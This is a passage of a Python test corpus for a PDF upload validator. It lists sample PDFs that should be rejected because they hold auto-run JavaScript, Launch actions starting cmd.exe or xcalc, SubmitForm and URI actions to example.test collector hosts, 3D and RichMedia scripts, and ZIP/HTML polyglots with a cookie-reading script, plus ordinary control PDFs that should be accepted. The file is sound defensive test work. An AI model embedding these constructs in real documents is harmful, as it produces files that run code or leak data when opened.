           "/JavaScript", js_in_an_object_stream, ACTIVE, REPORTED, words=("javascript",)),
    _entry("js-escaped-name", "/OpenAction << /S /Java#53cript ... >>: the name is /JavaScript once #53 is decoded",
           lambda: plain(catalog=b"/OpenAction << /S /Java#53cript /JS (app.alert(1)) >>"), ACTIVE, REPORTED,
           words=("javascript",)),
    _entry("js-after-goto", "/OpenAction is a plain /GoTo whose /Next runs JavaScript",
           lambda: plain(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next %s >>" % js()), ACTIVE, REPORTED,
           words=("javascript",)),
    _entry("js-unreferenced", "a JavaScript action that nothing refers to (the contract: JavaScript anywhere)",
           lambda: plain(more={6: js()}), ACTIVE, REPORTED, words=("javascript",)),
    _entry("launch-open-action", "/OpenAction << /S /Launch /F (cmd.exe) >>",
           lambda: plain(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"),
           ACTIVE, REPORTED, words=("launch",)),
    _entry("launch-link", "a link annotation whose /A launches a program",
           lambda: annotated(b"<< /S /Launch /F (/usr/bin/xcalc) >>"), ACTIVE, REPORTED, words=("launch",)),
    _entry("submit-form", "a link annotation whose /A is a SubmitForm to a URL",
           lambda: annotated(b"<< /S /SubmitForm /F << /FS /URL /F (https://collect.example.test/) >> >>"), ACTIVE,
           REPORTED, words=("submit",)),
    _entry("import-data", "/OpenAction << /S /ImportData /F (data.fdf) >>",
           lambda: plain(catalog=b"/OpenAction << /S /ImportData /F (data.fdf) >>"), ACTIVE, REPORTED,
           words=("import",)),
    _entry("open-action-uri", "/OpenAction opens a URL as the document opens",
           lambda: plain(catalog=b"/OpenAction << /S /URI /URI (https://tracker.example.test/open) >>"), ACTIVE,
           REPORTED, words=("openaction", "open action", "opens", "uri", "url")),
    _entry("open-action-goto-then-uri", "/OpenAction goes to page 1, and its /Next opens a URL right after",
           lambda: plain(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://tracker.example.test/open) >> >>"),
           ACTIVE, REPORTED, words=("opens", "uri")),
    _entry("open-action-goto-then-launch", "/OpenAction is a GoTo action whose /Next launches a program",
           lambda: plain(catalog=b"/OpenAction << /Type /Action /S /GoTo /D [3 0 R /Fit] /Next << /S /Launch /F (cmd.exe) >> >>"),
           ACTIVE, REPORTED, words=("launch",)),
    _entry("page-open-goto-then-print", "the page's /AA /O goes to the page, then its /Next prints",
           lambda: plain(page=b"/AA << /O << /S /GoTo /D [3 0 R /Fit] /Next << /S /Named /N /Print >> >> >>"),
           ACTIVE, REPORTED, words=("named", "runs by itself")),
    _entry("annotation-3d-script", "a 3D annotation whose stream runs JavaScript when it is instantiated (/OnInstantiate)",
           lambda: plain(page=b"/Annots [6 0 R]", more={
               6: b"<< /Type /Annot /Subtype /3D /Rect [72 72 300 300] /3DD 7 0 R /3DA << /A /PO >> >>",
               7: stream(b"U3D", b"/Type /3D /Subtype /U3D /OnInstantiate 8 0 R"), 8: stream(b"app.alert(1)")}),
           ACTIVE, REPORTED, words=("multimedia", "3d")),
    _entry("annotation-rich-media", "a RichMedia annotation that activates its scripts as the page opens",
           lambda: plain(page=b"/Annots [6 0 R]", more={
               6: b"<< /Type /Annot /Subtype /RichMedia /Rect [72 72 300 300] "
                  b"/RichMediaSettings << /Activation << /Condition /PO /Scripts [7 0 R] >> >> >>",
               7: stream(b"app.alert(1)")}),
           ACTIVE, REPORTED, words=("multimedia", "rich media")),
    _entry("open-action-goto-remote", "/OpenAction is a /GoToR to another file",
           lambda: plain(catalog=b"/OpenAction << /S /GoToR /F (other.pdf) /D [0 /Fit] >>"), ACTIVE, REPORTED,
           words=("openaction", "open action", "opens", "gotor", "another")),
    _entry("open-action-named-print", "/OpenAction << /S /Named /N /Print >>: prints as the document opens",
           lambda: plain(catalog=b"/OpenAction << /S /Named /N /Print >>"), ACTIVE, REPORTED,
           words=("openaction", "open action", "opens", "named", "print")),
    _entry("link-uri-javascript-scheme", "a link annotation whose /URI is javascript:alert(1)",
           lambda: annotated(b"<< /S /URI /URI (javascript:alert(1)) >>"), ACTIVE, REPORTED, words=("javascript",)),
    _entry("xfa-form", "/AcroForm << /Fields [] /XFA 6 0 R >>: an XFA form",
           lambda: plain(catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >>",
                         more={6: stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>")}),
           ACTIVE, REPORTED, words=("xfa",)),
    # -- polyglots -----------------------------------------------------------------------------
    _entry("zip-after-eof", "make_pdf() then a real ZIP archive (zip tools open the file)", with_zip_after, POLYGLOT,
           words=("after",)),
    _entry("zip-before-header", "a real ZIP archive then make_pdf(): %PDF- at offset ~300", with_zip_before, POLYGLOT,
           words=("before",)),
    _entry("zip-inside-a-stream", "a ZIP archive as the last stream object, its comment running to %%EOF: zip tools "
           "open the file, and there is nothing before %PDF- or after %%EOF", zip_inside_a_stream, POLYGLOT,
           words=("zip",)),
    _entry("html-after-eof", "make_pdf() then an HTML page with a script",
           lambda: make_pdf() + b"<html><script>alert(document.cookie)</script></html>\n", POLYGLOT, words=("after",)),
    _entry("huge-comment-after-eof", "make_pdf() then one 48 MB comment line (~20 s and +525 MB RSS to refuse before "
           "issue 10)", huge_comment_after_eof, POLYGLOT, words=("after",)),
    _entry("huge-comment-instead-of-eof", "make_pdf() whose %%EOF line is replaced by one 48 MB comment line",
           huge_comment_instead_of_eof, INVALID, words=(*_DAMAGED, "%%eof", "end")),
    _entry("huge-comment-before-eof", "startxref, its offset, one 48 MB comment line, %%EOF",
           huge_comment_before_eof, INVALID, words=(*_DAMAGED, "startxref")),
    # -- controls: ordinary PDFs that must be accepted -----------------------------------------
    _entry("control-plain", "make_pdf(): header at offset 0, ends with %%EOF and a newline", make_pdf, ACCEPTED,
           pages=1),
    _entry("control-multipage", "make_pdf(pages=30)", partial(make_pdf, pages=30), ACCEPTED, pages=30),
    _entry("control-pages-at-limit", f"exactly {MAX_PAGES} pages", partial(many_pages, MAX_PAGES), ACCEPTED,
           pages=MAX_PAGES),
    _entry("control-eof-crlf", "ends with %%EOF and CR LF (an end of line in PDF)",
           lambda: plain()[: -len(EOF)] + b"%%EOF\r\n", ACCEPTED, pages=1),
    _entry("control-incremental-update", "make_pdf() and an incremental update: two %%EOF, nothing after the last",
           incremental_update, ACCEPTED, pages=1),
    _entry("control-open-action-destination", "/OpenAction [3 0 R /Fit]: a destination",
           lambda: plain(catalog=b"/OpenAction [3 0 R /Fit]"), ACCEPTED, pages=1),
    _entry("control-open-action-goto", "/OpenAction << /S /GoTo /D [3 0 R /FitH 842] >>",
           lambda: plain(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /FitH 842] >>"), ACCEPTED, pages=1),
    _entry("control-link-uri", "a link annotation with a /URI action",
           lambda: annotated(b"<< /S /URI /URI (https://example.com/terms) >>"), ACCEPTED, pages=1),
    _entry("control-text-mentions-javascript", "page text (/JavaScript /Launch /JS /OpenAction) in a plain content "
           "stream, and the same words in /Info: words, not actions",
           lambda: classic(document() | {4: stream(b"BT /F1 12 Tf 72 742 Td (/JavaScript /Launch /JS /OpenAction "
                                                     b"/AA /XFA) Tj ET")},
                           trailer=b"/Root 1 0 R /Info << /Subject (/S /JavaScript /JS) >>"), ACCEPTED, pages=1),
    _entry("control-zip-signature-in-an-image", "an image stream that happens to hold the bytes PK\\5\\6 (a ZIP's "
           "end record signature): not a ZIP archive, which zip tools agree with", zip_signature_in_an_image, ACCEPTED,
           pages=1),
    _entry("control-object-streams", "the page tree in a small Flate object stream with a cross-reference stream",
           lambda: packed(document(), [2, 3]), ACCEPTED, pages=1),
)

BY_ID = {entry.id: entry for entry in CORPUS}
assert len(BY_ID) == len(CORPUS), "corpus ids are unique"
